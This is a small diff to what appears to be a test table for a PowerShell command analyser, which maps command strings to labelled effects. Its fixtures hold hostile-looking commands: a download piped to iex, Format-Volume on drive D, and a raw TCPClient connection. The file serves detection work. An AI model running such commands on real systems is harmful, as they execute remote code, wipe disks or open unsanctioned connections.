@@ -56,10 +56,7 @@ TABLES: dict[str, list[tuple[str, list[str]]]] = {
         ("iwr https://e.example/a | iex", ["argv curl https://e.example/a", "effect runs_remote_code"]),
         ("iex 'Remove-Item /x'", ["powershell Remove-Item /x"]),
         ("Format-Volume -DriveLetter D", ["effect destroys_disk"]),
-        (
-            "$c = [Net.Sockets.TCPClient]::new('h'); (New-Object Net.Sockets.TCPClient('1.2.3.4', 99))",
-            ["net connect 1.2.3.4 99"],
-        ),
+        ("$c::new(Net.Sockets.TCPClient('1.2.3.4', 99))", ["net connect 1.2.3.4 99"]),
         ("$x.Count", []),
     ],
 }
